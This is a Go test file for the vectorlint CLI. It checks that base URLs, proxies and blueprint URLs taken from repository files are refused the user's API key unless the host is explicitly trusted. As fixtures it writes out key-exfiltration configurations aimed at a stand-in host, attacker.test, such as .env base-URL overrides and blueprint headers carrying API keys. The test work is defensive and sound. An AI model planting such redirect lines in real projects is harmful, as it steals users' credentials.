package main

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// The attacks of issue 16 §1, performed for real. A local server plays the attacker's host;
// since 127.0.0.1 is loopback (trusted by rule), the attacker is reached as attacker.test
// through the app's dial hook, which routes each test host name to a local server. Every
// refusal is asserted exactly, with the attacker's server showing zero requests; every
// attack is then repeated with the host in VECTORLINT_TRUSTED_HOSTS, and the same request
// reaches the attacker carrying the key, so these tests would catch a leak.

// userKey is the API key in the user's (process) environment.
const userKey = "sk-user-key-0123456789"

// routes maps host names to local servers' addresses ("127.0.0.1:port").
type routes map[string]string

// dial connects to the server a host name is routed to. Unknown names fail, so a test never
// reaches the network.
func (r routes) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, err
	}
	to, ok := r[host]
	if !ok {
		if ip := net.ParseIP(host); ip != nil && ip.IsLoopback() {
			to = addr
		} else {
			return nil, fmt.Errorf("test network: no route to %s", host)
		}
	}
	return (&net.Dialer{}).DialContext(ctx, network, to)
}

// addrOf is a server's host:port.
func addrOf(rawURL string) string {
	return strings.TrimSuffix(strings.TrimPrefix(rawURL, "http://"), "/v1")
}

// runRouted runs the command in-process with the dial hook.
func runRouted(t *testing.T, dir string, env map[string]string, net routes, args ...string) cliResult {
	t.Helper()
	var stdout, stderr bytes.Buffer
	a := &app{
		stdin:       strings.NewReader(""),
		stdout:      &stdout,
		stderr:      &stderr,
		dir:         dir,
		lookupEnv:   func(k string) (string, bool) { v, ok := env[k]; return v, ok },
		now:         func() time.Time { return e2eNow },
		dialContext: net.dial,
	}
	code := a.run(context.Background(), args)
	r := cliResult{stdout: stdout.String(), stderr: stderr.String(), code: code}
	if strings.Contains(r.stdout+r.stderr, userKey) {
		t.Errorf("the key is in the output:\n%s\n%s", r.stdout, r.stderr)
	}
	return r
}

// refusal is the trust rule's message (trust.UntrustedHostError; its exact text is asserted in
// package llm).
func refusal(where, what, key, origin, host string) string {
	return fmt.Sprintf("%s: %s would send %s (from %s) to %s, which is not the provider's endpoint, a loopback address or a host in VECTORLINT_TRUSTED_HOSTS: "+
		"refused before any call (a file in the repository may not redirect your key). "+
		"If you trust %s, add it to VECTORLINT_TRUSTED_HOSTS in the process environment (a .env file cannot set it)", where, what, key, origin, host, host)
}

// startModel starts a fake model server that answers every lint rule with no violation.
func startModel(t *testing.T) *llmtest.Server {
	srv := llmtest.Start(t)
	srv.SetDefault(llmtest.Dynamic(answerAll))
	return srv
}

// trustProject is a one-rule project; extra files are added (or replace) the defaults.
func trustProject(t *testing.T, extra map[string]string) string {
	t.Helper()
	files := map[string]string{
		"vectorlint.ini":          "RulesPath = rules\n[**/*.md]\nRunRules = Acme\n",
		"rules/Acme/wordiness.md": "---\nid: Wordiness\nname: Wordiness\n---\nFlag wordy phrases.\n",
		"docs/a.md":               "In order to start, read this.\n",
	}
	for k, v := range extra {
		files[k] = v
	}
	dir := t.TempDir()
	writeTestTree(t, dir, files)
	return dir
}

// keyedRequests counts the requests that carried key (as a bearer token or Azure's api-key).
func keyedRequests(srv *llmtest.Server, key string) int {
	n := 0
	for _, r := range srv.Requests() {
		if r.Header.Get("Authorization") == "Bearer "+key || r.Header.Get("Api-Key") == key {
			n++
		}
	}
	return n
}

// withEnv copies env and sets the pairs.
func withEnv(env map[string]string, kv ...string) map[string]string {
	out := map[string]string{}
	for k, v := range env {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		out[kv[i]] = kv[i+1]
	}
	return out
}

// TestTrustLinterBaseURL: a base URL from vectorlint.ini, .env or .env.local, for OpenAI,
// Azure and the search model, may not receive the key of the process environment; the same
// run reaches the host once it is trusted, and a key the project's .env gave travels with the
// project's base URL.
func TestTrustLinterBaseURL(t *testing.T) {
	t.Parallel()
	attacker, good := startModel(t), startModel(t)
	net := routes{"attacker.test": addrOf(attacker.URL)}
	process := map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_MODEL": "m"}
	tests := []struct {
		name    string
		files   map[string]string
		env     map[string]string
		refused string // the message; "" when the run is allowed
		// allowedKey is the key the attacker receives when allowed ("" when it gets nothing).
		allowedKey string
	}{
		{name: "ini BaseURL", files: map[string]string{"vectorlint.ini": "RulesPath = rules\nBaseURL = http://attacker.test/v1\n[**/*.md]\nRunRules = Acme\n"},
			env: process, refused: refusal("vectorlint.ini:2", "BaseURL", "OPENAI_API_KEY", "the process environment", "attacker.test")},
		{name: ".env OPENAI_BASE_URL", files: map[string]string{".env": "OPENAI_BASE_URL=http://attacker.test/v1\n"},
			env: process, refused: refusal(".env:1", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the process environment", "attacker.test")},
		{name: ".env cannot trust a host", files: map[string]string{".env": "VECTORLINT_TRUSTED_HOSTS=attacker.test\nOPENAI_BASE_URL=http://attacker.test/v1\n"},
			env: process, refused: refusal(".env:2", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the process environment", "attacker.test")},
		{name: ".env key and base URL travel together", files: map[string]string{".env": "OPENAI_API_KEY=sk-project-key-42\nOPENAI_BASE_URL=http://attacker.test/v1\n"},
			env: map[string]string{"OPENAI_MODEL": "m"}, allowedKey: "sk-project-key-42"},
		{name: ".env.local beats .env", files: map[string]string{".env": "OPENAI_BASE_URL=" + good.URL + "\n", ".env.local": "# mine\nOPENAI_BASE_URL=http://attacker.test/v1\n"},
			env: process, refused: refusal(".env.local:2", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the process environment", "attacker.test")},
		{name: "the process environment beats .env.local", files: map[string]string{".env.local": "OPENAI_BASE_URL=http://attacker.test/v1\n"},
			env: withEnv(process, "OPENAI_BASE_URL", good.URL)},
		{name: "Azure endpoint", files: map[string]string{".env": "AZURE_OPENAI_ENDPOINT=http://attacker.test\n"},
			env:     map[string]string{"LLM_PROVIDER": "azure-openai", "AZURE_OPENAI_API_KEY": userKey, "AZURE_OPENAI_DEPLOYMENT_NAME": "dep"},
			refused: refusal(".env:1", "AZURE_OPENAI_ENDPOINT", "AZURE_OPENAI_API_KEY", "the process environment", "attacker.test")},
		{name: "loopback from a file is fine", files: map[string]string{"vectorlint.ini": "RulesPath = rules\nBaseURL = " + good.URL + "\n[**/*.md]\nRunRules = Acme\n"},
			env: map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_MODEL": "m", "LLM_PROVIDER": "openai-compatible"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := trustProject(t, tt.files)
			attacker.Reset()
			for _, dry := range []bool{false, true} {
				args := []string{"--no-cache", "docs"}
				if dry {
					args = []string{"--dry-run", "docs"} // a plan-only run fails the same way
				}
				r := runRouted(t, dir, tt.env, net, args...)
				if tt.refused != "" {
					r.expect(t, exitFailure, "", "vectorlint: "+tt.refused+"\n")
				} else if r.code != exitOK {
					t.Errorf("dry run %v: exit %d\n%s", dry, r.code, r.stderr)
				}
			}
			got := keyedRequests(attacker, tt.allowedKey)
			if tt.allowedKey == "" {
				got = len(attacker.Requests())
			}
			if want := map[bool]int{true: 1, false: 0}[tt.allowedKey != ""]; got != want {
				t.Errorf("the attacker's server got %d requests (with the expected key), want %d", got, want)
			}
			if tt.refused == "" {
				return
			}
			// The same run with the host trusted reaches it, with the user's key.
			env := withEnv(tt.env, "VECTORLINT_TRUSTED_HOSTS", "models.internal, attacker.test")
			r := runRouted(t, dir, env, net, "--no-cache", "docs")
			if r.code != exitOK || keyedRequests(attacker, userKey) != 1 {
				t.Errorf("trusted: exit %d, %d requests with the key\n%s", r.code, keyedRequests(attacker, userKey), r.stderr)
			}
		})
	}
	if good.Calls() == 0 {
		t.Error("the allowed runs never reached the good server")
	}
}

// TestTrustSearchModel: PERPLEXITY_BASE_URL from .env may not receive PERPLEXITY_API_KEY.
func TestTrustSearchModel(t *testing.T) {
	t.Parallel()
	attacker, good := startModel(t), startModel(t)
	net := routes{"attacker.test": addrOf(attacker.URL)}
	dir := trustProject(t, map[string]string{
		"rules/Acme/facts.md": "---\nid: Facts\nname: Facts\nevaluator: technical-accuracy\ntype: subjective\n" +
			"criteria: [{id: Accuracy, name: Accuracy}]\n---\nCheck the claims against the evidence.\n",
		"docs/a.md": "Go 1.0 shipped in 2009.\n",
		".env":      "SEARCH_MODEL=sonar\nPERPLEXITY_BASE_URL=http://attacker.test/v1\n",
	})
	env := withEnv(fakeEnv(good), "OPENAI_API_KEY", "sk-model-key-1", "PERPLEXITY_API_KEY", userKey)
	r := runRouted(t, dir, env, net, "--no-cache", "docs")
	r.expect(t, exitFailure, "", "vectorlint: "+refusal(".env:2", "PERPLEXITY_BASE_URL", "PERPLEXITY_API_KEY", "the process environment", "attacker.test")+"\n")
	if n := len(attacker.Requests()) + good.Calls(); n != 0 {
		t.Errorf("%d requests were made", n)
	}
	r = runRouted(t, dir, withEnv(env, "VECTORLINT_TRUSTED_HOSTS", "attacker.test"), net, "--no-cache", "docs")
	if r.code == exitFailure || keyedRequests(attacker, userKey) != 1 {
		t.Errorf("trusted: exit %d, %d search requests with the key\n%s", r.code, keyedRequests(attacker, userKey), r.stderr)
	}
}

// TestTrustEvaluateEmbeddings: evaluate reads .env from the working directory, and its
// embeddings endpoint follows the rule.
func TestTrustEvaluateEmbeddings(t *testing.T) {
	t.Parallel()
	attacker := startModel(t)
	net := routes{"attacker.test": addrOf(attacker.URL)}
	dir := trustProject(t, map[string]string{".env": "OPENAI_BASE_URL=http://attacker.test/v1\n"})
	args := []string{"evaluate", "semantic_similarity", "--response", "Paris", "--ground-truth", "Paris", "--threshold", "0.5", "--no-cache"}
	r := runRouted(t, dir, map[string]string{"OPENAI_API_KEY": userKey}, net, args...)
	r.expect(t, exitFailure, "", "vectorlint evaluate: "+refusal(".env:1", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the process environment", "attacker.test")+"\n")
	if attacker.EmbeddingCalls() != 0 {
		t.Fatal("the embeddings request was sent")
	}
	r = runRouted(t, dir, map[string]string{"OPENAI_API_KEY": userKey, "VECTORLINT_TRUSTED_HOSTS": "attacker.test"}, net, args...)
	if r.code != exitOK || attacker.EmbeddingCalls() != 1 || keyedRequests(attacker, userKey) != 1 {
		t.Errorf("trusted: exit %d, %d embeddings calls\n%s", r.code, attacker.EmbeddingCalls(), r.stderr)
	}
}

// TestTrustVariables: VECTORLINT_TRUSTED_HOSTS must be host names.
func TestTrustVariables(t *testing.T) {
	t.Parallel()
	dir := trustProject(t, nil)
	r := runRouted(t, dir, map[string]string{"OPENAI_API_KEY": userKey, "VECTORLINT_TRUSTED_HOSTS": "https://models.internal/v1"}, nil, "docs")
	r.expect(t, exitFailure, "", "vectorlint: VECTORLINT_TRUSTED_HOSTS: expected comma-separated host names such as models.internal or proxy.example.com:8443, found \"https://models.internal/v1\"\n")
}

// TestDotEnvBesideConfig: .env and .env.local are read from the folder of the config file
// that was found, also when the tool runs from a subfolder; a .env in the working directory is
// not read then.
func TestDotEnvBesideConfig(t *testing.T) {
	t.Parallel()
	good := startModel(t)
	dir := trustProject(t, map[string]string{
		".env":           "OPENAI_BASE_URL=" + good.URL + "\nOPENAI_MODEL=from-env\n",
		".env.local":     "OPENAI_MODEL=from-env-local\n",
		"docs/.env":      "this line is not KEY=VALUE\n",
		"docs/more/b.md": "In order to end.\n",
	})
	r := runRouted(t, filepath.Join(dir, "docs"), map[string]string{"OPENAI_API_KEY": userKey}, nil, "--no-cache", "--output", "json", ".")
	if r.code != exitOK || good.Calls() != 2 {
		t.Fatalf("from docs/: exit %d, %d calls\n%s", r.code, good.Calls(), r.stderr)
	}
	for _, req := range good.Requests() {
		if req.Model != "from-env-local" {
			t.Errorf("model %q, want from-env-local (.env.local beats .env)", req.Model)
		}
	}
	// --config names the project too: its .env is read from anywhere.
	elsewhere := t.TempDir()
	r = runRouted(t, elsewhere, map[string]string{"OPENAI_API_KEY": userKey}, nil, "--no-cache", "--config", filepath.Join(dir, "vectorlint.ini"), filepath.Join(dir, "docs"))
	if r.code != exitOK || good.Calls() != 4 {
		t.Fatalf("--config: exit %d, %d calls\n%s", r.code, good.Calls(), r.stderr)
	}
	// Without a config file, the working directory's .env is read (zero-config).
	zero := t.TempDir()
	writeTestTree(t, zero, map[string]string{"VECTORLINT.md": "# Style\nWrite plainly.\n", "a.md": "Hello.\n", ".env": "BROKEN LINE\n"})
	r = runRouted(t, zero, map[string]string{"OPENAI_API_KEY": userKey}, nil, "a.md")
	r.expect(t, exitFailure, "", "vectorlint: .env:1: expected KEY=VALUE, found \"BROKEN\" and 4 more characters (not shown: the value may be secret)\n")
}

// TestUserConfigEnv: ~/.vectorlint/config.toml's [env] configures a run, loses to every other
// layer, and counts as the user's own: its key may not follow a base URL from .env.
func TestUserConfigEnv(t *testing.T) {
	t.Parallel()
	attacker, good := startModel(t), startModel(t)
	net := routes{"attacker.test": addrOf(attacker.URL)}
	home := t.TempDir()
	writeTestTree(t, home, map[string]string{".vectorlint/config.toml": "[env]\nOPENAI_API_KEY = \"" + userKey + "\"\nOPENAI_BASE_URL = \"" + good.URL + "\"\nOPENAI_MODEL = \"from-user-config\"\n"})
	dir := trustProject(t, nil)
	r := runRouted(t, dir, map[string]string{"HOME": home}, net, "--no-cache", "docs")
	if r.code != exitOK || good.Calls() != 1 || good.Requests()[0].Model != "from-user-config" || keyedRequests(good, userKey) != 1 {
		t.Fatalf("exit %d, %d calls\n%s", r.code, good.Calls(), r.stderr)
	}
	writeTestTree(t, dir, map[string]string{".env": "OPENAI_BASE_URL=http://attacker.test/v1\n"})
	r = runRouted(t, dir, map[string]string{"HOME": home}, net, "--no-cache", "docs")
	r.expect(t, exitFailure, "", "vectorlint: "+refusal(".env:1", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the user config", "attacker.test")+"\n")
	if len(attacker.Requests()) != 0 {
		t.Fatal("the attacker got a request")
	}
	// A syntax error names the file and line.
	writeTestTree(t, home, map[string]string{".vectorlint/config.toml": "[env]\nOPENAI_API_KEY = " + userKey + "\n"})
	r = runRouted(t, dir, map[string]string{"HOME": home}, net, "docs")
	r.expect(t, exitFailure, "", "vectorlint: "+filepath.Join(home, ".vectorlint", "config.toml")+
		":2: expected TOML, such as [env] NAME = \"value\", found a syntax error: expected value but found … instead (quoted text not shown: it may be secret)\n")
}

// TestEnvPrecedence shows, through the model a run sends, which layer wins: process
// environment > .env.local > .env > user config.
func TestEnvPrecedence(t *testing.T) {
	t.Parallel()
	good := startModel(t)
	tests := []struct {
		layers []string // which layers set OPENAI_MODEL
		want   string
	}{
		{[]string{"user"}, "user"},
		{[]string{"user", "env"}, "env"},
		{[]string{"user", "env", "local"}, "local"},
		{[]string{"env", "local"}, "local"},
		{[]string{"user", "env", "local", "process"}, "process"},
		{[]string{"user", "process"}, "process"},
	}
	for _, tt := range tests {
		home := t.TempDir()
		files := map[string]string{}
		env := map[string]string{"HOME": home, "OPENAI_API_KEY": userKey, "OPENAI_BASE_URL": good.URL}
		for _, l := range tt.layers {
			switch l {
			case "user":
				writeTestTree(t, home, map[string]string{".vectorlint/config.toml": "[env]\nOPENAI_MODEL = \"user\"\n"})
			case "env":
				files[".env"] = "OPENAI_MODEL=env\n"
			case "local":
				files[".env.local"] = "OPENAI_MODEL=local\n"
			case "process":
				env["OPENAI_MODEL"] = "process"
			}
		}
		good.Reset()
		r := runRouted(t, trustProject(t, files), env, nil, "--no-cache", "docs")
		if r.code != exitOK || good.Calls() != 1 || good.Requests()[0].Model != tt.want {
			t.Errorf("%v: exit %d, model %v, want %s\n%s", tt.layers, r.code, good.Requests(), tt.want, r.stderr)
		}
	}
}

// TestDotEnvNotRegular: a .env that is a link to a file outside the tree is not read
// (spec/trust.md §6); the run stops with a message naming it.
func TestDotEnvNotRegular(t *testing.T) {
	t.Parallel()
	outside := filepath.Join(t.TempDir(), "secrets.env")
	writeTestTree(t, filepath.Dir(outside), map[string]string{"secrets.env": "OPENAI_BASE_URL=http://attacker.test/v1\n"})
	dir := trustProject(t, nil)
	if err := os.Symlink(outside, filepath.Join(dir, ".env")); err != nil {
		t.Skip(err)
	}
	r := runRouted(t, dir, map[string]string{"OPENAI_API_KEY": userKey}, nil, "docs")
	r.expect(t, exitFailure, "", "vectorlint: .env: expected a regular file (environment files that are pipes, devices or links out of the project are not read), found a symbolic link leading outside the project root "+dir+"\n")
}

// TestProxyFromProcessOnly: proxy variables in a .env file do not route requests (the client
// uses http.ProxyFromEnvironment, which reads the process's own environment only).
func TestProxyFromProcessOnly(t *testing.T) {
	t.Parallel()
	for _, v := range []string{"HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"} {
		if os.Getenv(v) != "" {
			t.Skipf("%s is set in this process's environment", v)
		}
	}
	attacker, good := startModel(t), startModel(t)
	net := routes{"attacker.test": addrOf(attacker.URL), "models.internal": addrOf(good.URL)}
	dir := trustProject(t, map[string]string{".env": "HTTP_PROXY=http://attacker.test:3128\nhttp_proxy=http://attacker.test:3128\nALL_PROXY=http://attacker.test:3128\n"})
	env := map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_BASE_URL": "http://models.internal/v1", "OPENAI_MODEL": "m"}
	r := runRouted(t, dir, env, net, "--no-cache", "docs")
	if r.code != exitOK || good.Calls() != 1 || len(attacker.Requests()) != 0 {
		t.Errorf("exit %d, %d calls to the model, %d to the .env's proxy\n%s", r.code, good.Calls(), len(attacker.Requests()), r.stderr)
	}
}

// callCounter is a $call service that records the X-Key header and path of each request.
type callCounter struct {
	n    atomic.Int32
	last atomic.Value // "path key"
}

func (c *callCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	c.n.Add(1)
	c.last.Store(r.URL.Path + " " + r.Header.Get("X-Key"))
	fmt.Fprint(w, `{"score": 1, "explain": "ok"}`)
}

// TestTrustBlueprint: in blueprints, ${VAR} expands only with --allow-env; a value the user
// holds then goes only to a trusted url (custom models and $call alike); provider ids,
// judges and embeddings follow the base URL rule.
func TestTrustBlueprint(t *testing.T) {
	t.Parallel()
	attacker := startModel(t)
	svc := &callCounter{}
	svcSrv := httptest.NewServer(svc)
	t.Cleanup(svcSrv.Close)
	net := routes{"attacker.test": addrOf(attacker.URL), "svc.attacker.test": addrOf(svcSrv.URL)}
	bp := "models:\n" +
		"  - id: evil\n" +
		"    url: http://attacker.test/v1/chat/completions\n" +
		"    modelName: m\n" +
		"    inherit: openai\n" +
		"    headers: {Authorization: \"Bearer ${OPENAI_API_KEY}\"}\n" +
		"---\n" +
		"- id: p\n  prompt: Capital of France?\n  should:\n    - $contains: Paris\n"
	dir := writeBlueprintFiles(t, map[string]string{"bp.yml": bp})
	out := filepath.Join(dir, "out")
	process := map[string]string{"OPENAI_API_KEY": userKey}
	run := func(env map[string]string, args ...string) cliResult {
		return runRouted(t, dir, env, net, append([]string{"blueprint", "run", "bp.yml", "--no-cache", "--out-dir", out}, args...)...)
	}
	notAllowed := "bp.yml:6: error: header \"Authorization\" of custom model \"evil\" uses ${OPENAI_API_KEY}, which a blueprint may read only when the run names it: " +
		"add --allow-env OPENAI_API_KEY if this blueprint may send that variable to its url\n" +
		"vectorlint blueprint run: bp.yml: 1 environment variable reference not allowed (--allow-env): no call made\n"
	run(process).expect(t, exitFailure, "", notAllowed)
	// --allow-env expands it, but the url still has to be trusted for a value the user holds.
	run(process, "--allow-env", "OPENAI_API_KEY").expect(t, exitFailure, "",
		"vectorlint blueprint run: "+refusal("bp.yml:3", `url of custom model "evil"`, "OPENAI_API_KEY", "the process environment", "attacker.test")+"\n")
	if n := len(attacker.Requests()); n != 0 {
		t.Fatalf("the attacker got %d requests", n)
	}
	r := run(withEnv(process, "VECTORLINT_TRUSTED_HOSTS", "attacker.test"), "--allow-env", "OPENAI_API_KEY")
	if r.code != exitOK || keyedRequests(attacker, userKey) != 1 {
		t.Errorf("trusted: exit %d, %d requests with the key\n%s%s", r.code, keyedRequests(attacker, userKey), r.stdout, r.stderr)
	}
	// A value from the project's .env is the project's own: it travels with the blueprint.
	writeTestTree(t, dir, map[string]string{".env": "OPENAI_API_KEY=sk-project-key-42\n"})
	r = run(map[string]string{}, "--allow-env", "OPENAI_API_KEY")
	if r.code != exitOK || keyedRequests(attacker, "sk-project-key-42") != 1 {
		t.Errorf(".env value: exit %d\n%s", r.code, r.stderr)
	}
	if err := os.Remove(filepath.Join(dir, ".env")); err != nil {
		t.Fatal(err)
	}

	// blueprint check reports the reference, with its line, unless --allow-env names it.
	code, stdout, _ := runBlueprintApp(t, dir, nil, "blueprint", "check", "bp.yml")
	if code != exitFailure || stdout != strings.Split(notAllowed, "\n")[0]+"\nchecked 1 blueprint: 1 invalid, 0 warnings\n" {
		t.Errorf("check: exit %d\n%s", code, stdout)
	}
	if code, stdout, _ := runBlueprintApp(t, dir, nil, "blueprint", "check", "--allow-env", "OPENAI_API_KEY", "bp.yml"); code != exitOK {
		t.Errorf("check --allow-env: exit %d\n%s", code, stdout)
	}

	// Provider ids, judges and the embeddings model: a <PROVIDER>_BASE_URL from .env.
	writeTestTree(t, dir, map[string]string{
		"ids.yml": "models: [openrouter:some-model]\n---\n- id: p\n  prompt: Q\n  ideal: Paris\n  should: [Names Paris]\n",
		".env":    "OPENROUTER_BASE_URL=http://attacker.test/v1\n",
	})
	routerEnv := map[string]string{"OPENROUTER_API_KEY": userKey}
	r = runRouted(t, dir, routerEnv, net, "blueprint", "run", "ids.yml", "--no-cache", "--out-dir", out)
	code, stderr := r.code, r.stderr
	// The default judges are OpenRouter models too: the judge is refused first.
	wantJudge := "vectorlint blueprint run: " + refusal(".env:1", "OPENROUTER_BASE_URL", "OPENROUTER_API_KEY", "the process environment", "attacker.test") + "\n"
	if code != exitFailure || stderr != wantJudge {
		t.Errorf("judges: exit %d\n%s\nwant\n%s", code, stderr, wantJudge)
	}
	r = runRouted(t, dir, routerEnv, net, "blueprint", "run", "ids.yml", "--no-cache", "--out-dir", out, "--eval-method", "similarity")
	code, stderr = r.code, r.stderr
	if code != exitFailure || stderr != wantJudge {
		t.Errorf("generation: exit %d\n%s", code, stderr)
	}
	r = runRouted(t, dir, withEnv(routerEnv, "VECTORLINT_TRUSTED_HOSTS", "attacker.test"), net, "blueprint", "run", "ids.yml", "--no-cache", "--out-dir", out, "--eval-method", "similarity")
	if r.code != exitOK || keyedRequests(attacker, userKey) != 2 {
		t.Errorf("trusted generation: exit %d, %d requests with the key\n%s", r.code, keyedRequests(attacker, userKey), r.stderr)
	}
	writeTestTree(t, dir, map[string]string{".env": "OPENAI_BASE_URL=http://attacker.test/v1\n"})
	r = runRouted(t, dir, map[string]string{"OPENAI_API_KEY": userKey, "OPENROUTER_API_KEY": "or-key-123"}, net, "blueprint", "run", "ids.yml",
		"--no-cache", "--out-dir", out, "--eval-method", "embedding", "--responses", writeResponses(t, dir))
	code, stderr = r.code, r.stderr
	if want := "vectorlint blueprint run: " + refusal(".env:1", "OPENAI_BASE_URL", "OPENAI_API_KEY", "the process environment", "attacker.test") + "\n"; code != exitFailure || stderr != want {
		t.Errorf("embeddings: exit %d\n%s", code, stderr)
	}
	if n := len(attacker.Requests()); n != 3 {
		t.Errorf("the attacker got %d requests, want the 3 trusted ones", n)
	}
	if err := os.Remove(filepath.Join(dir, ".env")); err != nil {
		t.Fatal(err)
	}

	// $call: the url and headers of inline calls and external services.
	call := "externalServices:\n  svc: {url: \"http://svc.attacker.test/named\", headers: {X-Key: \"${CALL_KEY}\"}}\n---\n" +
		"- id: p\n  prompt: Q\n  should:\n    - $call: {url: \"http://svc.attacker.test/inline/${CALL_KEY}\"}\n    - $call: {service: svc}\n"
	writeTestTree(t, dir, map[string]string{"call.yml": call})
	callEnv := map[string]string{"CALL_KEY": "call-secret-99"}
	callRun := func(env map[string]string, args ...string) cliResult {
		return runRouted(t, dir, env, net, append([]string{"blueprint", "run", "call.yml", "--responses", writeResponses(t, dir), "--out-dir", out, "--allow-net"}, args...)...)
	}
	callRun(callEnv).expect(t, exitFailure, "",
		"call.yml:2: error: header \"X-Key\" of external service \"svc\" uses ${CALL_KEY}, which a blueprint may read only when the run names it: add --allow-env CALL_KEY if this blueprint may send that variable to its url\n"+
			"call.yml:7: error: url of $call in prompt \"p\" uses ${CALL_KEY}, which a blueprint may read only when the run names it: add --allow-env CALL_KEY if this blueprint may send that variable to its url\n"+
			"vectorlint blueprint run: call.yml: 2 environment variable references not allowed (--allow-env): no call made\n")
	callRun(callEnv, "--allow-env", "CALL_KEY").expect(t, exitFailure, "",
		"vectorlint blueprint run: "+refusal("call.yml:2", `url of external service "svc"`, "CALL_KEY", "the process environment", "svc.attacker.test")+"\n"+
			"vectorlint blueprint run: "+refusal("call.yml:7", `url of $call in prompt "p"`, "CALL_KEY", "the process environment", "svc.attacker.test")+"\n")
	if svc.n.Load() != 0 {
		t.Fatalf("the service got %d requests", svc.n.Load())
	}
	r = callRun(withEnv(callEnv, "VECTORLINT_TRUSTED_HOSTS", "svc.attacker.test"), "--allow-env", "CALL_KEY")
	if r.code != exitOK || svc.n.Load() != 2 {
		t.Errorf("trusted $call: exit %d, %d requests\n%s%s", r.code, svc.n.Load(), r.stdout, r.stderr)
	}
	if strings.Contains(r.stdout+r.stderr, "call-secret-99") {
		t.Error("the expanded value is in the output")
	}
}

// writeResponses writes a responses file for prompt p and returns its name.
func writeResponses(t *testing.T, dir string) string {
	t.Helper()
	writeTestTree(t, dir, map[string]string{"r.jsonl": `{"promptId": "p", "model": "m:a", "response": "Paris."}` + "\n"})
	return "r.jsonl"
}
